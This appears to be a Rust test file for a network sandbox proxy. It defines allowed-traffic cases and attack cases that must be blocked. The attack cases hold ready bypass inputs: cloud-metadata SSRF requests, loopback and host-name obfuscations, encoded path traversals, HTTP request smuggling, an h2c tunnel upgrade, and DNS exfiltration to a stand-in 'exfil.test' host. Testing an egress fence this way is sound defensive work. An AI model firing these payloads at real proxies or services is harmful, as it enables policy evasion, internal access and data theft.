//! Network and names (INCIDENTS N).

use crate::case::{Case, Seen, Stage, Trouble};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = ways();
    cases.extend(hosts());
    cases.extend(requests());
    cases.extend(sockets());
    cases
}

/// What has to work.
fn ways() -> Vec<Case> {
    let promise = |id, title, way: &'static str| {
        Case::promise(id, title, move |stage| {
            let port = base_config(stage)?;
            let target = if way == "forward" {
                format!("http://ok.test:{port}/x")
            } else {
                "/x".into()
            };
            try_all(
                stage,
                &[attempt(
                    way,
                    &format!("ok.test:{port}"),
                    "path=/x",
                    &get(&target, &format!("ok.test:{port}")),
                )],
                &[],
            )
        })
    };
    vec![
        promise("N0-forward", "an allowed host is reached through the HTTP proxy", "forward"),
        promise("N0-connect", "an allowed host is reached through CONNECT", "connect"),
        promise("N0-socks", "an allowed host is reached through SOCKS5", "socks"),
        promise("N0-direct", "an allowed host is reached by programs that know no proxy", "direct"),
        Case::promise("N20-rewrite", "a rewritten host is reached with path prefix and query", |stage| {
            let port = base_config(stage)?;
            stage.config.push_str(&format!("[network.host_rewrite]\n\"gateway.test\" = \"http://127.0.0.1:{port}/v1/prefix\"\n"));
            let bytes = get("http://gateway.test/x?y=1", "gateway.test");
            try_all(stage, &[attempt("forward", "-", "target=/v1/prefix/x?y=1 ", &bytes)], &[])
        })
        .fence_only(),
        Case::promise("N4-killed-supervisor", "a killed supervisor leaves no way out, not even to allowed hosts", killed_supervisor).fence_only(),
    ]
}

/// Hosts that the policy does not allow.
fn hosts() -> Vec<Case> {
    vec![
        attack(
            "N1-nul",
            "smuggle a host past the suffix check with a NUL in its name",
            &["evil.test"],
            |p| {
                let target = format!("evil.test\\0.wild.test:{p}");
                let bytes = get("/", &format!("evil.test:{p}"));
                vec![
                    attempt("socks", &target, "host=", &bytes),
                    attempt("connect", &target, "host=", &bytes),
                ]
            },
        ),
        Case::attack(
            "N2-empty-allowlist",
            "reach a host when the allowlist is empty",
            |stage| {
                let port = base_config(stage)?;
                let resolver = stage
                    .world
                    .network
                    .as_ref()
                    .map(|network| network.resolver().to_string())
                    .unwrap_or_default();
                stage.config = format!("[network]\nresolver = [\"{resolver}\"]\nallowlist = []\n");
                let host = format!("ok.test:{port}");
                let attempts = [
                    attempt(
                        "forward",
                        "-",
                        "host=",
                        &get(&format!("http://{host}/"), &host),
                    ),
                    attempt("connect", &host, "host=", &get("/", &host)),
                    attempt("socks", &host, "host=", &get("/", &host)),
                    attempt("direct", &host, "host=", &get("/", &host)),
                ];
                try_all(stage, &attempts, &["ok.test"])
            },
        ),
        attack(
            "N3-plain-http",
            "reach a host over plain HTTP that CONNECT would not reach",
            &["evil.test"],
            |p| {
                vec![attempt(
                    "forward",
                    "-",
                    "host=",
                    &get(&format!("http://evil.test:{p}/"), &format!("evil.test:{p}")),
                )]
            },
        ),
        attack(
            "N3-connect",
            "reach a host through CONNECT",
            &["evil.test"],
            |p| both(p, "connect", "evil.test"),
        ),
        attack(
            "N3-socks",
            "reach a host through SOCKS5",
            &["evil.test"],
            |p| both(p, "socks", "evil.test"),
        ),
        attack(
            "N3-direct",
            "reach a host without any proxy",
            &["evil.test"],
            |p| both(p, "direct", "evil.test"),
        ),
        attack(
            "N5-host-header",
            "name an allowed host to the proxy and another in the Host header",
            &["host=evil.test"],
            |p| {
                let target = format!("ok.test:{p}");
                let inside = get("/", "evil.test");
                vec![
                    attempt(
                        "forward",
                        "-",
                        "host=evil.test",
                        &get(&format!("http://ok.test:{p}/"), "evil.test"),
                    ),
                    attempt("connect", &target, "host=evil.test", &inside),
                    attempt("socks", &target, "host=evil.test", &inside),
                    attempt("direct", &target, "host=evil.test", &inside),
                ]
            },
        ),
        attack(
            "N5-second-request",
            "name another host in a later request of the same connection",
            &["host=evil.test"],
            |p| {
                let target = format!("ok.test:{p}");
                let two = format!("{}\\|{}", get("/", &target), get("/", "evil.test"));
                vec![
                    attempt("connect", &target, "host=evil.test", &two),
                    attempt("direct", &target, "host=evil.test", &two),
                ]
            },
        ),
        attack(
            "N11-metadata",
            "reach the cloud metadata address",
            &["latest/meta-data"],
            |p| {
                let bytes = get("/latest/meta-data", "169.254.169.254");
                vec![
                    attempt("address", "169.254.169.254:80", "host=", &bytes),
                    attempt(
                        "forward",
                        "-",
                        "host=",
                        &get("http://169.254.169.254/latest/meta-data", "169.254.169.254"),
                    ),
                    attempt("connect", "169.254.169.254:80", "host=", &bytes),
                    attempt("socks", "169.254.169.254:80", "host=", &bytes),
                    attempt(
                        "direct",
                        &format!("metadata.local.test:{p}"),
                        "host=",
                        &bytes,
                    ),
                ]
            },
        ),
        attack(
            "N14-rebinding",
            "reach the host's loopback by an allowed name that resolves to it",
            &["host=rebind", "host=mapped", "host=six", "host=unspecified"],
            |p| {
                ["rebind", "mapped", "six", "unspecified"]
                    .iter()
                    .flat_map(|name| {
                        let host = format!("{name}.local.test:{p}");
                        [
                            attempt(
                                "forward",
                                "-",
                                "host=",
                                &get(&format!("http://{host}/"), &host),
                            ),
                            attempt("connect", &host, "host=", &get("/", &host)),
                        ]
                    })
                    .collect()
            },
        ),
        attack(
            "N14-loopback",
            "reach a service on the host's loopback by its address",
            &["host=loopback"],
            |p| {
                let inside = get("/", "loopback");
                let mut attempts: Vec<[String; 4]> = [
                    "127.0.0.1",
                    "127.1",
                    "2130706433",
                    "0x7f000001",
                    "0177.0.0.1",
                    "0.0.0.0",
                    "[::1]",
                    "[::ffff:127.0.0.1]",
                    "localhost",
                ]
                .iter()
                .map(|host| {
                    attempt(
                        "forward",
                        "-",
                        "host=",
                        &get(&format!("http://{host}:{p}/"), "loopback"),
                    )
                })
                .collect();
                attempts.push(attempt(
                    "connect",
                    &format!("127.0.0.1:{p}"),
                    "host=",
                    &inside,
                ));
                attempts.push(attempt(
                    "socks",
                    &format!("127.0.0.1:{p}"),
                    "host=",
                    &inside,
                ));
                attempts.push(attempt(
                    "address",
                    &format!("127.0.0.1:{p}"),
                    "host=",
                    &inside,
                ));
                attempts
            },
        ),
        attack(
            "N18-spelling",
            "reach a blocked host by another spelling of its name",
            &["blocked", "BLOCKED"],
            |p| {
                [
                    "blocked.wild.test",
                    "BLOCKED.Wild.Test",
                    "blocked.wild.test.",
                    "%62locked.wild.test",
                    "user@blocked.wild.test",
                ]
                .iter()
                .flat_map(|name| {
                    let host = format!("{name}:{p}");
                    [
                        attempt(
                            "forward",
                            "-",
                            "host=",
                            &get(&format!("http://{host}/"), &host),
                        ),
                        attempt("connect", &host, "host=", &get("/", &host)),
                        attempt("socks", &host, "host=", &get("/", &host)),
                    ]
                })
                .collect()
            },
        ),
        attack(
            "N18-wildcard",
            "reach the parent of a wildcard, and hosts that end or begin alike",
            &["sneaky"],
            |p| {
                [
                    "wild.test",
                    "notwild.test",
                    "xwild.test",
                    "ok.test.evil.test",
                    "a.wild.test.evil.test",
                    "notok.test",
                ]
                .iter()
                .map(|host| {
                    attempt(
                        "forward",
                        "-",
                        "path=/sneaky",
                        &get(&format!("http://{host}:{p}/sneaky"), &format!("{host}:{p}")),
                    )
                })
                .collect()
            },
        ),
        attack(
            "N18-port",
            "reach another port of an allowed host",
            &["other-port"],
            |p| {
                let host = format!("ok.test:{}", p.wrapping_add(1));
                vec![
                    attempt(
                        "forward",
                        "-",
                        "host=",
                        &get(&format!("http://{host}/other-port"), &host),
                    ),
                    attempt("connect", &host, "host=", &get("/other-port", &host)),
                    attempt("socks", &host, "host=", &get("/other-port", &host)),
                    attempt("direct", &host, "host=", &get("/other-port", &host)),
                    attempt(
                        "connect",
                        "ok.test:22",
                        "host=",
                        &get("/other-port", "ok.test:22"),
                    ),
                ]
            },
        ),
        attack(
            "N19-any-address",
            "reach any address on the web ports because some domain is allowed",
            &["by-address"],
            |p| {
                [
                    "203.0.113.7:80".into(),
                    "203.0.113.7:443".into(),
                    format!("203.0.113.7:{p}"),
                ]
                .iter()
                .map(|target| {
                    attempt(
                        "address",
                        target,
                        "host=",
                        &get("/by-address", "203.0.113.7"),
                    )
                })
                .collect()
            },
        ),
    ]
}

/// Requests that the policy does not allow on a host that it allows.
fn requests() -> Vec<Case> {
    vec![
        attack("N6-paths", "reach a path outside the rule by an odd spelling", &["path=/secret"], |p| {
            [
                "/secret",
                "/public/../secret",
                "/public/%2e%2e/secret",
                "/public/.%2e/secret",
                "/public/%252e%252e/secret",
                "/public/..;x=1/secret",
                "/public%2f..%2fsecret",
                "/public/..%2fsecret",
                "/public/..\\\\secret",
                "/public/..%5csecret",
                "//secret",
                "/./secret",
                "/public/x/../../secret",
            ]
            .iter()
            .map(|path| attempt("forward", "-", "path=/secret", &get(&format!("http://ro.test:{p}{path}"), &format!("ro.test:{p}"))))
            .collect()
        }),
        attack("N7-two-lengths", "smuggle a request behind one with two lengths", &["path=/secret"], |p| {
            let smuggled = get("/secret", &format!("ro.test:{p}"));
            let head = format!("GET http://ro.test:{p}/public/a HTTP/1.1\\r\\nHost: ro.test:{p}\\r\\n");
            vec![
                attempt(
                    "forward",
                    "-",
                    "path=/secret",
                    &format!("{head}Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}\\|"),
                ),
                attempt(
                    "forward",
                    "-",
                    "path=/secret",
                    &format!("{head}Content-Length: 0\\r\\nContent-Length: {}\\r\\n\\r\\n{smuggled}\\|", smuggled.len()),
                ),
            ]
        }),
        attack("N8-h2c", "turn an inspected connection into a tunnel by an upgrade to HTTP/2", &["tunnel GET /secret"], |p| {
            let host = format!("ro.test:{p}");
            let upgrade = |target: &str| {
                format!(
                    "GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n\\|{}",
                    get("/secret", &host)
                )
            };
            vec![
                attempt("forward", "-", " tunnel ", &upgrade(&format!("http://{host}/public/a"))),
                attempt("connect", &host, " tunnel ", &upgrade("/public/a")),
            ]
        }),
        attack("N9-method-forward", "use a method that the rule does not allow, on the plain forward path", &["method=POST"], |p| {
            vec![attempt("forward", "-", "method=POST", &post(&format!("http://ro.test:{p}/public/x"), &format!("ro.test:{p}")))]
        }),
        attack("N12-method-tunnel", "use a method that the rule does not allow, inside CONNECT and SOCKS", &["method=POST"], |p| {
            let host = format!("ro.test:{p}");
            ["connect", "socks", "direct"].iter().map(|way| attempt(way, &host, "method=POST", &post("/public/x", &host))).collect()
        }),
        attack("N9-later-request", "use it in a later request of the same connection", &["method=POST"], |p| {
            let host = format!("ro.test:{p}");
            let two = format!("{}\\|{}", get("/public/x", &host), post("/public/x", &host));
            ["connect", "direct"].iter().map(|way| attempt(way, &host, "method=POST", &two)).collect()
        }),
        attack("N17-drop-box", "send data to an allowed host with somebody else's key", &["somebody-elses-key"], |p| {
            let host = format!("ok.test:{p}");
            let bytes = format!("POST http://{host}/v1/files HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer somebody-elses-key\\r\\nContent-Length: 4\\r\\n\\r\\ndata");
            vec![attempt("forward", "-", "path=/v1/files", &bytes)]
        })
        .known_gap("a host that is allowed takes any account's key; rules on methods and paths narrow it, nothing closes it"),
    ]
}

/// Other sockets than TCP to a name.
fn sockets() -> Vec<Case> {
    let name = |id, title, transport: &'static str| {
        Case::attack(id, title, move |stage| {
            base_config(stage)?;
            stage.own_network = true;
            let seen = stage.probe("name", &[transport, "stolen-data.exfil.test", "9.9.9.9:53"])?;
            Ok(reached(stage, &["exfil.test"]).unwrap_or(seen))
        })
    };
    let socket = |id, title, kind: &'static str, own: bool| {
        Case::attack(id, title, move |stage| {
            stage.own_network = own;
            stage.probe("socket", &[kind])
        })
    };
    vec![
        name("N13-dns-udp", "carry data out in a DNS question", "udp"),
        name(
            "N13-dns-tcp",
            "carry data out in a DNS question over TCP",
            "tcp",
        ),
        attack(
            "N13-dns-by-proxy",
            "make the proxy itself ask for a name that is not allowed",
            &["exfil.test"],
            |p| {
                let host = format!("more-data.exfil.test:{p}");
                vec![
                    attempt(
                        "forward",
                        "-",
                        "host=",
                        &get(&format!("http://{host}/"), &host),
                    ),
                    attempt("connect", &host, "host=", &get("/", &host)),
                    attempt("socks", &host, "host=", &get("/", &host)),
                ]
            },
        ),
        Case::attack("N15-udp", "send datagrams out (QUIC, NTP)", |stage| {
            let port = base_config(stage)?;
            stage.own_network = true;
            stage.probe(
                "datagram",
                &[
                    "203.0.113.7:443",
                    "203.0.113.7:123",
                    &format!("203.0.113.7:{port}"),
                ],
            )
        }),
        Case::attack(
            "N15-multipath",
            "reach an address over multipath TCP",
            |stage| {
                let port = base_config(stage)?;
                stage.own_network = true;
                stage.probe("multipath", &[&format!("203.0.113.7:{port}")])
            },
        ),
        socket(
            "N15-vsock",
            "make a vsock socket, which no network namespace holds",
            "vsock",
            false,
        ),
        socket("N15-alg", "make an AF_ALG socket", "alg", false),
        socket("N15-raw", "make a raw socket", "raw", true),
        socket("N15-raw-v6", "make a raw IPv6 socket", "raw-v6", true),
        socket("N15-packet", "make a packet socket", "packet", true),
        socket("N15-sctp", "make an SCTP socket", "sctp", false),
        socket(
            "N16-netfilter",
            "open the interface through which capture rules are changed",
            "netfilter",
            true,
        ),
        Case::attack(
            "N16-loopback-down",
            "take down the interface that holds the capture",
            |stage| {
                base_config(stage)?;
                stage.own_network = true;
                stage.probe("loopback-down", &[])
            },
        ),
    ]
}

/// A row of attempts, none of which may be answered by the origin or leave one of the signs there.
fn attack(
    id: &'static str,
    title: &'static str,
    signs: &'static [&'static str],
    attempts: impl Fn(u16) -> Vec<[String; 4]> + Send + Sync + 'static,
) -> Case {
    Case::attack(id, title, move |stage| {
        let port = base_config(stage)?;
        try_all(stage, &attempts(port), signs)
    })
}

/// The servers, and a policy that allows some of what they stand for.
pub(super) fn base_config(stage: &mut Stage<'_>) -> Result<u16, Trouble> {
    let network = stage.world.serve()?;
    let (port, resolver) = (network.port(), network.resolver());
    stage.config = format!(
        r#"[network]
resolver = ["{resolver}"]

[[network.rules]]
host = ["ok.test", "*.wild.test"]
ports = [{port}]
action = "allow"
private = true

[[network.rules]]
host = "gateway.test"
action = "allow"

[[network.rules]]
host = "blocked.wild.test"
action = "block"

[[network.rules]]
host = "ro.test"
ports = [{port}]
methods = ["GET"]
paths = ["/public/**"]
action = "allow"
private = true

[[network.rules]]
host = "*.local.test"
ports = [{port}]
action = "allow"

"#
    );
    Ok(port)
}

fn try_all(
    stage: &mut Stage<'_>,
    attempts: &[[String; 4]],
    signs: &[&str],
) -> Result<Seen, Trouble> {
    stage.own_network = true;
    let args: Vec<&str> = attempts.iter().flatten().map(String::as_str).collect();
    let seen = stage.probe("http", &args)?;
    Ok(reached(stage, signs).unwrap_or(seen))
}

/// What the servers beside the fence saw, whatever the probe thinks.
fn reached(stage: &Stage<'_>, signs: &[&str]) -> Option<Seen> {
    let network = stage.world.network.as_ref()?;
    let found = signs.iter().find_map(|sign| {
        network
            .requests
            .find(sign)
            .or_else(|| network.names.find(sign))
    })?;
    Some(Seen {
        achieved: true,
        detail: format!("outside saw: {}", found.lines().next().unwrap_or_default()),
    })
}

fn killed_supervisor(stage: &mut Stage<'_>) -> Result<Seen, Trouble> {
    let port = base_config(stage)?;
    let host = format!("ok.test:{port}");
    let mut args = vec!["started".to_owned(), "late".to_owned()];
    for way in ["forward", "connect", "direct"] {
        let target = if way == "forward" {
            format!("http://{host}/late")
        } else {
            "/late".into()
        };
        args.extend(attempt(way, &host, "host=", &get(&target, &host)));
    }
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut supervisor = stage.fence.start(&stage.job("http-after", &words))?;
    let started = stage.world.workspace().join("started");
    let end = std::time::Instant::now() + crate::limits::ANSWER;
    while !started.exists() && std::time::Instant::now() < end {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let ran = started.exists();
    supervisor.kill()?;
    supervisor.wait()?;
    // The probe goes on when this file is there, if it still lives.
    stage.world.file("workspace/late", "")?;
    std::thread::sleep(std::time::Duration::from_secs(2));
    let saw = stage
        .world
        .network
        .as_ref()
        .and_then(|network| network.requests.find("/late"));
    Ok(Seen {
        achieved: ran && saw.is_none(),
        detail: format!("the probe ran: {ran}; outside saw: {saw:?}"),
    })
}

/// One group of arguments of the probe `http`.
pub(super) fn attempt(way: &str, target: &str, wanted: &str, bytes: &str) -> [String; 4] {
    [way, target, wanted, bytes].map(str::to_owned)
}

fn both(port: u16, way: &str, host: &str) -> Vec<[String; 4]> {
    [port, 80]
        .iter()
        .map(|port| {
            attempt(
                way,
                &format!("{host}:{port}"),
                "host=",
                &get("/", &format!("{host}:{port}")),
            )
        })
        .collect()
}

fn get(target: &str, host: &str) -> String {
    format!("GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
}

fn post(target: &str, host: &str) -> String {
    format!("POST {target} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 4\\r\\n\\r\\ndata")
}
